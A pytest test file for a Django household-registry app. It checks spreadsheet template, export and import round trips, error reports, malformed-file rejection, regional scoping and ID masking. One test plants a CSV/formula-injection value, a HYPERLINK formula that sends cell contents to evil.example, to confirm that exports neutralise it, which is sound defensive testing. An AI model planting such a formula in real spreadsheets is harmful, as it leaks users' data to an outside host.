"""Spreadsheet template, export and import: round trips, idempotence, error reports, bad files, scope."""

import csv
import io

import pytest
import xlsxwriter
from django.core.management import call_command
from django.core.management.base import CommandError
from python_calamine import CalamineWorkbook

from jingzhun.core.models import AuditLog
from jingzhun.imports import export
from jingzhun.imports.layout import (
    FLAT_COLUMNS,
    HOUSEHOLD_COLUMNS,
    HOUSEHOLD_SHEET,
    MEMBER_COLUMNS,
    MEMBER_SHEET,
)
from jingzhun.imports.reader import FileRejected
from jingzhun.imports.services import import_file, write_error_report
from jingzhun.registry.models import Household, HouseholdYear, Member, StatusChange, VillageTally
from tests.conftest import VILLAGE_A, VILLAGE_B


def sheets(path):
    book = CalamineWorkbook.from_path(str(path))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def write_book(path, tables):
    book = xlsxwriter.Workbook(str(path))
    for name, rows in tables.items():
        sheet = book.add_worksheet(name)
        for r, values in enumerate(rows):
            for c, value in enumerate(values):
                if isinstance(value, int | float):
                    sheet.write_number(r, c, value)
                elif value not in (None, ""):
                    sheet.write_string(r, c, str(value))
    book.close()
    return path


def wipe_registry():
    import datetime as dt

    from jingzhun.core.auditpurge import purging

    with purging(dt.date.today()):  # an empty database, audit trail included (only a purge may delete it)
        AuditLog.objects.all().delete()
    VillageTally.objects.all().delete()
    HouseholdYear.objects.all().delete()
    Member.objects.all().delete()
    StatusChange.objects.all().delete()
    Household.objects.all().delete()


@pytest.fixture
def county_data(regions):
    call_command("demo-data", region="522634100", households=25, seed=9, years="2016", verbosity=0)


def test_template_has_the_layout_instructions_and_code_lists(tmp_path):
    path = tmp_path / "t.xlsx"
    call_command("import-template", str(path), verbosity=0)
    tables = sheets(path)
    assert list(tables) == ["填表说明", "代码表", HOUSEHOLD_SHEET, MEMBER_SHEET]
    assert tables[HOUSEHOLD_SHEET][0] == [c.header for c in HOUSEHOLD_COLUMNS]
    assert tables[MEMBER_SHEET][0] == [c.header for c in MEMBER_COLUMNS]
    assert "苗族" in [row[tables["代码表"][0].index("民族")] for row in tables["代码表"]]
    flat = tmp_path / "flat.xlsx"
    call_command("import-template", str(flat), flat=True, verbosity=0)
    assert sheets(flat)["登记表"][0] == [c.header for c in FLAT_COLUMNS]


def test_xlsx_round_trip_into_an_empty_database(tmp_path, county_data):
    first = tmp_path / "first.xlsx"
    export.write_xlsx(first, Household.objects.all(), mask=False)
    before = sheets(first)
    wipe_registry()
    result = import_file(user=None, path=first, history_year=2016)
    assert result.ok and result.created == 25, [g.errors for g in result.failed_groups]
    second = tmp_path / "second.xlsx"
    export.write_xlsx(second, Household.objects.all(), mask=False)
    assert sheets(second) == before


def test_csv_round_trip_one_row_per_person(tmp_path, county_data):
    first = tmp_path / "first.csv"
    export.write_csv(first, Household.objects.all(), mask=False)
    wipe_registry()
    assert import_file(user=None, path=first, history_year=2016).created == 25
    second = tmp_path / "second.csv"
    export.write_csv(second, Household.objects.all(), mask=False)
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")


def test_parquet_export_has_one_row_per_person(tmp_path, county_data):
    import pyarrow.parquet as pq

    path = tmp_path / "h.parquet"
    rows = export.write_parquet(path, Household.objects.all(), mask=True)
    table = pq.read_table(path)
    assert table.num_rows == rows == Member.objects.filter(is_active=True).count()
    assert all("*" in v for v in table.column("公民身份号码").to_pylist())


def test_reimporting_the_same_file_changes_nothing_and_a_changed_row_updates(tmp_path, county_data, users):
    path = tmp_path / "h.xlsx"
    export.write_xlsx(path, Household.objects.all(), mask=False)
    entries = AuditLog.objects.count()
    result = import_file(user=users["county"], path=path)
    assert (result.unchanged, result.created, result.updated) == (25, 0, 0)
    assert AuditLog.objects.count() == entries
    tables = sheets(path)
    header = tables[HOUSEHOLD_SHEET][0]
    tables[HOUSEHOLD_SHEET][1][header.index("主要致贫原因")] = "因灾"
    tables[HOUSEHOLD_SHEET][1][header.index("其他致贫原因")] = ""
    changed = write_book(tmp_path / "changed.xlsx", tables)
    result = import_file(user=users["county"], path=changed)
    assert (result.unchanged, result.updated) == (24, 1)
    number = tables[HOUSEHOLD_SHEET][1][0]
    assert Household.objects.get(number=number).main_cause == "disaster"
    assert AuditLog.objects.filter(
        action="update", model="registry.household", actor=users["county"]
    ).exists()


def _new_household_tables(id_number="52263419800101003X", region=VILLAGE_A):
    h_header = [c.header for c in HOUSEHOLD_COLUMNS]
    m_header = [c.header for c in MEMBER_COLUMNS]
    h = dict.fromkeys(h_header, "")
    h.update({"户主公民身份号码": id_number, "所在村区划代码": region, "贫困户属性": "一般贫困户",
              "主要致贫原因": "因病", "年度": 2016, "工资性收入": 3000})  # fmt: skip
    m = dict.fromkeys(m_header, "")
    m.update({"户主公民身份号码": id_number, "姓名": "杨文明", "公民身份号码": id_number, "与户主关系": "户主",
              "文化程度": "小学", "劳动技能": "普通劳动力"})  # fmt: skip
    return {HOUSEHOLD_SHEET: [h_header, list(h.values())], MEMBER_SHEET: [m_header, list(m.values())]}


def test_error_report_can_be_fixed_and_imported(tmp_path, users):
    bad = _new_household_tables(id_number="522634198001010031")  # wrong check digit
    path = write_book(tmp_path / "bad.xlsx", bad)
    result = import_file(user=users["county"], path=path)
    assert not result.ok and result.created == 0 and Household.objects.count() == 0
    report = tmp_path / "report.xlsx"
    write_error_report(result, report)
    tables = sheets(report)
    member_header = tables[MEMBER_SHEET][0]
    assert member_header[-1] == "错误原因" and "校验位" in tables[MEMBER_SHEET][1][-1]
    for sheet in tables.values():  # the operator corrects the ID in both sheets of the report
        for row in sheet[1:]:
            for i, value in enumerate(row):
                if value == "522634198001010031":
                    row[i] = "52263419800101003X"
    fixed = write_book(tmp_path / "fixed.xlsx", tables)
    result = import_file(user=users["county"], path=fixed)
    assert result.ok and result.created == 1
    assert Member.objects.get().id_number == "52263419800101003X"


def test_all_or_nothing_by_default_and_valid_mode_keeps_the_good(tmp_path, users):
    good = _new_household_tables()
    bad = _new_household_tables(id_number="522634198001010031")
    tables = {name: good[name] + bad[name][1:] for name in good}
    path = write_book(tmp_path / "mixed.xlsx", tables)
    assert import_file(user=users["county"], path=path).created == 0
    assert Household.objects.count() == 0
    result = import_file(user=users["county"], path=path, mode="valid")
    assert (result.created, result.failed) == (1, 1) and Household.objects.count() == 1


def test_rows_outside_the_users_region_are_refused_not_skipped(tmp_path, users):
    path = write_book(tmp_path / "other.xlsx", _new_household_tables(region=VILLAGE_B))
    result = import_file(user=users["town_a"], path=path)
    assert result.failed == 1 and "管辖范围" in result.failed_groups[0].errors[0]
    assert Household.objects.count() == 0


@pytest.mark.parametrize(
    ("maker", "message"),
    [
        (lambda p: p.write_bytes(b"PK\x03\x04 not really a zip"), "不是有效的电子表格"),
        (
            lambda p: write_book(p, {HOUSEHOLD_SHEET: [["户号", "名字"]], MEMBER_SHEET: [["x"]]}),
            "表头与模板不符",
        ),
        (lambda p: p.write_bytes(b""), "空的"),
    ],
)
def test_malformed_files_are_refused_with_a_message(tmp_path, users, maker, message):
    path = tmp_path / "broken.xlsx"
    maker(path)
    with pytest.raises(FileRejected, match=message):
        import_file(user=users["county"], path=path)


def test_id_numbers_mangled_into_floats_are_explained(tmp_path, users):
    tables = _new_household_tables()
    tables[MEMBER_SHEET][1][
        MEMBER_COLUMNS.index(next(c for c in MEMBER_COLUMNS if c.header == "公民身份号码"))
    ] = 5.22634198e17
    result = import_file(user=users["county"], path=write_book(tmp_path / "f.xlsx", tables))
    assert any("存成了数字" in e for g in result.failed_groups for e in g.errors)


def test_merged_cells_and_oversized_files_are_refused(tmp_path, users, settings):
    path = tmp_path / "merged.xlsx"
    book = xlsxwriter.Workbook(str(path))
    for name, columns in ((HOUSEHOLD_SHEET, HOUSEHOLD_COLUMNS), (MEMBER_SHEET, MEMBER_COLUMNS)):
        sheet = book.add_worksheet(name)
        sheet.write_row(0, 0, [c.header for c in columns])
        sheet.merge_range(1, 0, 2, 0, "522634100201")
    book.close()
    with pytest.raises(FileRejected, match="合并单元格"):
        import_file(user=users["county"], path=path)
    settings.IMPORT_MAX_BYTES = 100
    with pytest.raises(FileRejected, match="超过上限"):
        import_file(user=users["county"], path=path)


def test_duplicate_rows_are_reported(tmp_path, users):
    tables = _new_household_tables()
    tables[HOUSEHOLD_SHEET] += [tables[HOUSEHOLD_SHEET][1]] * 50
    result = import_file(user=users["county"], path=write_book(tmp_path / "dup.xlsx", tables))
    assert not result.ok and any("多次" in e for g in result.failed_groups for e in g.errors)
    assert Household.objects.count() == 0


def test_import_command_explains_and_writes_a_report(tmp_path, users):
    path = write_book(tmp_path / "bad.xlsx", _new_household_tables(id_number="522634198001010031"))
    with pytest.raises(CommandError, match="错误报告"):
        call_command("import", str(path), user="county", verbosity=0)
    assert (tmp_path / "bad-错误报告.xlsx").exists()
    with pytest.raises(CommandError, match="不支持的文件类型"):
        (tmp_path / "x.txt").write_text("hello")
        call_command("import", str(tmp_path / "x.txt"), verbosity=0)


def test_export_command_scopes_and_masks(tmp_path, county_data, users):
    path = tmp_path / "e.csv"
    call_command("export", str(path), user="town_b", verbosity=0)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 1  # 西江镇 has none of 丹江镇's households
    call_command("export", str(path), user="county", verbosity=0)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    id_col = rows[0].index("公民身份号码")
    assert len(rows) > 25 and all("*" in r[id_col] for r in rows[1:])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_is_neutralised_in_exports_and_still_round_trips(tmp_path, county_data, fmt):
    import zipfile

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    Member.objects.filter(pk=Member.objects.order_by("id").first().pk).update(name=hostile)
    first = tmp_path / f"first.{fmt}"
    getattr(export, f"write_{fmt}")(first, Household.objects.all(), mask=False)
    if fmt == "csv":
        cells = [c for r in csv.reader(io.StringIO(first.read_text(encoding="utf-8-sig"))) for c in r]
        assert "'" + hostile in cells and hostile not in cells
    else:
        with zipfile.ZipFile(first) as z:
            sheets_xml = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert not any("<f>" in x for x in sheets_xml)  # no formula cell
            assert 'quotePrefix="1"' in z.read("xl/styles.xml").decode()
        assert hostile in [c for rows in sheets(first).values() for r in rows for c in r]
    wipe_registry()
    assert import_file(user=None, path=first, history_year=2016).created == 25
    assert Member.objects.filter(name=hostile).count() == 1  # the guard is not part of the name


def test_full_width_id_numbers_in_a_file_are_the_registered_people(tmp_path, county_data):
    path = tmp_path / "h.csv"
    export.write_csv(path, Household.objects.all(), mask=False)
    width = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
    text = path.read_text(encoding="utf-8")
    for number in Member.objects.values_list("id_number", flat=True):
        text = text.replace(number, number.translate(width))
    path.write_text(text, encoding="utf-8")
    result = import_file(user=None, path=path)
    assert result.ok and result.created == 0, [g.errors for g in result.failed_groups]
    assert Member.objects.count() == Member.objects.filter(id_number__regex=r"^[0-9X]{18}$").count()
